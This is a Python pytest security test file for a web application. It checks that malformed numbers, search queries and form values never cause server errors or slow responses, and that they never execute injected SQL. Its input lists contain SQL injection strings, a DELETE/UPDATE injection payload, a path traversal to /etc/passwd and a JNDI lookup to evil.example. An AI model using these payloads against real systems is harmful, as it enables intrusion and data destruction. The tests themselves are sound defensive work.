"""Whatever stands in an address, a filter or a field is answered, soon, and never with a 500."""

from functools import partial
from urllib.parse import quote

import pytest

from tests.security.acting import ACTS
from tests.security.acts import Act
from tests.security.filling import filled_form
from tests.security.house import House
from tests.security.looking import LOOKS
from tests.timing import soonest

SOON = 0.25  # seconds of processor time

NUMBERS = [
    "9223372036854775807", "9223372036854775808", "18446744073709551616", "-1", "--5", "-", "0",
    "-9223372036854775809", "1e309", "NaN", "Infinity", "0x10", "0b1", "1_000", "\uff11\uff12",
    "\u0663", "²", "½", "9" * 400, "1.5", "1,5", "1.000.000", "+1", " 1 ", "1\x00", "", "null",
    "true", "[]", "%", "\u202e1", "1;DROP TABLE people", "1' OR '1'='1", "1) UNION SELECT 1--",
    "id desc", "(SELECT 1)",
]  # fmt: skip
ASKED = [
    *("page", "sort", "limit", "size", "offset", "n", "per_page", "order_by", "number", "revision")
]

SEARCHES = [
    "*", "a*", "*a*", "????????", "* * * * *", " ".join(f"pre{n}*" for n in range(80)), "(" * 3000,
    "[{(" * 160, '"' * 499, "NOT " * 120, "-data " * 80, "OR " * 160, "a OR " * 99, "word " * 99,
    " ".join(f"rechnung{n}~3" for n in range(20)), "/.*a.*/", "title:a* kind:b* lang:*",
    "data^9999999", "a" * 499, "ä" * 499, "\u0301" * 499, "𝕬𝖇𝖈 " * 100, "\x00\x01\x02", "%00%ff",
    "\ufffd\ufffd\ufffd", "'; DROP TABLE firms; --", "../../etc/passwd",
    "${jndi:ldap://evil.example}", "{{7777*7}}", "<script>", "kind:application", "audience:public",
    "\u202e\u200b\ufeff", "[1 TO 99999999999999999999]", "date:[* TO *]", "a-" * 249, "1" * 499,
]  # fmt: skip


@pytest.mark.security(26)
@pytest.mark.parametrize("who", ["visitor", "bo", "eva", "jens", "kim"])
def test_no_number_in_an_address_breaks_a_page(house: House, who: str) -> None:
    """Pages, sorts and limits come from a list: what is none of it counts as the first."""
    wrong = {}
    pages = [row.path for row in LOOKS if not row.fill and row.path not in {"/demo", "/robots.txt"}]
    for path in dict.fromkeys(pages):
        for text in NUMBERS if path in LISTS else NUMBERS[:3]:
            query = "&".join(f"{name}={quote(text)}" for name in ASKED)
            status = house.get(who, f"{path}?{query}").status
            if status >= 500:
                wrong[path, text] = status
    assert wrong == {}


LISTS = {"/challenges", "/firms", "/search", "/applications", "/desk", "/audit", "/admin/people",
         "/admin/roles"}  # fmt: skip


@pytest.mark.security(26)
def test_no_number_in_a_path_breaks_a_page(house: House) -> None:
    receipts = f"/applications/{house.ids['application sent']}/receipts"
    for text in NUMBERS:
        for end in ("", ".txt"):
            path = f"{receipts}/{quote(text, safe='')}{end}"
            assert house.get("bo", path).status in {200, 404}, text
    for row in LOOKS:
        if row.fill:
            for text in ("9223372036854775808", "-1", "\uff11\uff12", "0' OR '1'='1"):
                path = house.filled(row.path, dict.fromkeys(row.fill, f"={quote(text)}"))
                assert house.get("kim", path).status in {303, 403, 404, 410}, path


FIGURES = ("budget", "pilots", "weight-", "minimum-", "max_words", "founded", "revision", "price",
           "opens", "closes", "questions_until", "valid_until", "code", "at")  # fmt: skip


def is_figure(name: str, value: str) -> bool:
    return value.isdigit() or any(part in name for part in FIGURES)


@pytest.mark.security(26)
@pytest.mark.parametrize("text", [*NUMBERS, "0001-01-01", "9999-12-31T23:59", "2026-02-30T10:00",
                                  "2026-W01-1", "10000-01-01T00:00"])  # fmt: skip
def test_no_figure_in_a_form_breaks_it(house: House, text: str) -> None:
    wrong = {}
    for row in {row.route: row for row in ACTS if row.page}.values():
        house.put_back()
        form = filled_form(house, row, row.by)
        sent = {
            name: [text] if is_figure(name, values[0]) else values for name, values in form.items()
        }
        if sent == form:
            continue
        status = house.post(row.by, house.filled(row.path, row.fill), sent).status
        if status >= 500:
            wrong[row.route] = status
    assert wrong == {}


@pytest.mark.security(25)
@pytest.mark.parametrize("query", SEARCHES, ids=range(len(SEARCHES)))
def test_every_search_is_answered_soon(house: House, query: str) -> None:
    asked = {"visitor": ["/search?q={}", "/suggest?q={}", "/firms?q={}", "/challenges?theme={}"],
             "bo": ["/search?q={}&kind=application"], "jens": ["/audit?q={}"],
             "kim": ["/admin/people?q={}", "/admin/roles?for={}"]}  # fmt: skip
    for who, paths in asked.items():
        for path in paths:
            target = path.format(quote(query, safe=""))
            got, took = soonest(partial(house.get, who, target), under=SOON)
            assert got.status in {200, 400, 404}, (path, got.status)
            assert (got.status == 404) == (len(target) > 4096), path
            assert took < SOON, (path, took)


@pytest.mark.security(26)
@pytest.mark.parametrize("row", [r for r in ACTS if r.page], ids=lambda row: row.label)
def test_a_quote_in_every_field_is_a_quote(house: House, row: Act) -> None:
    """Statements are never put together from what was typed: a quote changes no other row."""
    house.put_back()
    form = filled_form(house, row, row.by)
    before = {table: n for table, n in house.counts().items() if table != "form_keys"}
    keep = {"form_key", "page", "seen", "revision", "typed_in"}
    text = "zz'; DELETE FROM journal; UPDATE people SET name='x'; --\" OR 1/1=1"
    sent = {name: values if name in keep else [text] for name, values in form.items()}
    assert house.post(row.by, house.filled(row.path, row.fill), sent).status < 500
    after = house.counts()
    assert {table for table, n in before.items() if after[table] < n} <= {
        "recovery_codes",
        *GOES[row.route],
    }
    assert house.rows("SELECT count(*) FROM people WHERE name = 'x'") == [(0,)]


class _Goes(dict[str, set[str]]):
    """Tables from which a route takes rows by right."""

    def __missing__(self, key: str) -> set[str]:
        return set()


PROPOSED = {"assignment_proposals", "proposed_reviews"}
GOES = _Goes(
    {
        "POST /desk/challenges/{slug}/interviews/slots/{slot}/remove": {"interview_slots"},
        "POST /desk/challenges/{slug}/delete": {
            *("challenges", "challenge_texts", "challenge_terms"),
            *("challenge_previews", "challenge_versions"),
        },
        "POST /desk/challenges/{slug}/remarks": {"challenge_remarks"},
        "POST /desk/challenges/{slug}/return": {"challenge_remarks"},
        "POST /firm/{firm}/evidence/{evidence}/remove": {"evidence"},
        "POST /admin/programmes/{slug}/authorities": {"programme_authorities"},
        "POST /desk/challenges/{slug}/opening/take-back": {"openings"},
        "POST /reviews/{id}/abstain": {"application_access"},
        "POST /desk/challenges/{slug}/reviewing/proposal/take": PROPOSED,
        "POST /desk/challenges/{slug}/reviewing/proposal/drop": PROPOSED,
        "POST /triage/undo/{move}": {"triage_tags"},
        "POST /triage/views/{view}/delete": {"triage_views"},
        "POST /account/searches/{public_id}/delete": {"saved_searches"},
        "POST /account/following": {"follows"},
        "POST /following/end/{token}": {"follows", "follow_requests", "subscribers"},
        "POST /following/manage/{token}": {"follows", "follow_requests", "subscribers"},
        "POST /desk/events/{slug}/delete": {"gatherings", "gathering_texts"},
        "POST /second-factor": {"limit_uses"},
        "POST /second-factor/set-up": {"limit_uses"},
    }
)
